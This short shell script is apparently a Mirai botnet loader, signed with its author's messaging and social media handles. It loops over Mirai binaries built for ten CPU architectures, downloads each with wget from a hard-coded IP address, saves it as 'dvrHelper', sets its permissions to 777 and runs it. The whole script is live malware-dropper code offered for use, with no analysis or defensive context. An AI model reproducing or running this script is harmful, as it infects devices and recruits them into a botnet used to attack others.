# Gucci Ares
#  Kik:XVPL IG:Greek.Ares

#!/bin/sh

# Edit
WEBSERVER="163.172.20.236:80"
# Stop editing now


BINARIES="mirai.arm mirai.arm5n mirai.arm7 mirai.m68k mirai.mips mirai.mpsl mirai.ppc mirai.sh4 mirai.spc mirai.x86"

for Binary in $BINARIES; do
    wget http://$WEBSERVER/bins/$Binary -O dvrHelper
    chmod 777 dvrHelper
    ./dvrHelper
done
